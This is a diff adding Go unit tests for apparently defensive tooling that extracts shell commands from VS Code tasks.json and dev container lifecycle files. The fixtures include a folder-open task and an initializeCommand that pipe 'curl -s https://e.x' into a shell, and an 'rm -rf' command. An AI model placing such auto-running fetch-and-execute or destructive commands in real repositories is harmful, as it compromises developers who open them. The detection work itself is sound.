@@ -181,6 +181,26 @@ func TestExtractOtherCI(t *testing.T) {
 	})
 }
 
+// TestExtractEditorFiles: VS Code tasks and dev container lifecycle
+// commands run on the developer's machine when a folder is opened (they
+// were not read). JSON with comments and trailing commas.
+func TestExtractEditorFiles(t *testing.T) {
+	type tc = struct {
+		name, src string
+		want      []extracted
+	}
+	checkExtract(t, ".vscode/tasks.json", []tc{
+		{"shell task with args and a comment", "{\n  // tasks\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {\"label\": \"x\", \"type\": \"shell\", \"command\": \"curl -s https://e.x | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"},},\n    {\"label\": \"y\", \"command\": \"rm\", \"args\": [\"-rf\", \"~/x y\"]},\n  ],\n}\n",
+			[]extracted{{"curl -s https://e.x | sh", "5:49"}, {"rm -rf '~/x y'", "6:32"}}},
+		{"process task and OS override", "{\"tasks\": [{\"type\": \"process\", \"command\": \"make\", \"args\": [\"a b\"], \"linux\": {\"command\": \"bash -c x\"}}]}",
+			[]extracted{{"make 'a b'", "1:44"}, {"'bash -c x'", "1:90"}}}, // a process task's command is one program
+	})
+	checkExtract(t, ".devcontainer/devcontainer.json", []tc{
+		{"string, array and named", "{\n  \"image\": \"x\",\n  // host\n  \"initializeCommand\": \"curl -s https://e.x | bash\",\n  \"postCreateCommand\": [\"npm\", \"ci\"],\n  \"postStartCommand\": {\"b\": \"echo b\", \"a\": \"echo a\"},\n}\n",
+			[]extracted{{"curl -s https://e.x | bash", "4:25"}, {"npm ci", "5:26"}, {"echo a", "6:45"}, {"echo b", "6:30"}}},
+	})
+}
+
 // TestKindOfHooksAndEnvrc: hooks kept in the repository and direnv's
 // .envrc are shell whatever their first line says.
 func TestKindOfHooksAndEnvrc(t *testing.T) {
@@ -189,7 +209,8 @@ func TestKindOfHooksAndEnvrc(t *testing.T) {
 		".husky/_/husky.sh": Script, ".husky/_/h": "", ".husky/README.md": "",
 		".circleci/config.yml": CI, "bitbucket-pipelines.yml": CI, "azure-pipelines.yml": CI, ".travis.yml": CI,
 		".drone.yml": CI, ".woodpecker/build.yaml": CI, ".buildkite/pipeline.yml": CI, "Taskfile.yml": CI,
-		"config.yml": "",
+		"config.yml": "", ".vscode/tasks.json": VSCode, "tasks.json": "", ".devcontainer/devcontainer.json": DevContainer,
+		".devcontainer/python/devcontainer.json": DevContainer, ".devcontainer.json": DevContainer,
 	} {
 		if got := KindOf(name); got != want {
 			t.Errorf("KindOf(%q) = %q, want %q", name, got, want)
